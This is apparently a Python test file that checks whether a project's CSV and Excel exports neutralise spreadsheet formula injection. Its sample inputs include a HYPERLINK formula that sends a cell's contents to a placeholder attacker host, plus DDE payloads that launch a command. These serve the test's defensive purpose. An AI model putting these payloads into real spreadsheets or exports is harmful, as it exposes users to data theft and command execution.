"""Exports cannot run as spreadsheet formulas: any text cell (or header) that starts with = + - @, a tab or a
carriage return is written as text, in CSV and in Excel; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.export import to_csv_bytes, to_xlsx_bytes

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 139 1234 5678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_known_attacks_are_neutralized_in_csv_and_excel():
    frame = pd.DataFrame({"姓名": ATTACKS, "=header": ATTACKS, "金额": range(len(ATTACKS))})
    rows = _csv_cells(to_csv_bytes(frame))
    assert rows[0][1] == "'=header"
    for row in rows[1:]:
        assert not row[0].startswith(DANGEROUS) and not row[1].startswith(DANGEROUS)
        assert row[0].lstrip("'") in ATTACKS
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
    values = list(sheet.iter_rows(values_only=True))
    for row in values[1:]:
        assert not str(row[0]).startswith(DANGEROUS) and isinstance(row[2], int)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "no formula cells"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=20))
def test_no_text_cell_ever_starts_a_formula(values):
    rows = _csv_cells(to_csv_bytes(pd.DataFrame({"value": values})))
    for (cell,), original in zip(rows[1:], values, strict=True):
        assert not cell.startswith(DANGEROUS)
        assert cell in (original, "'" + original)  # nothing else changes: the text is all there
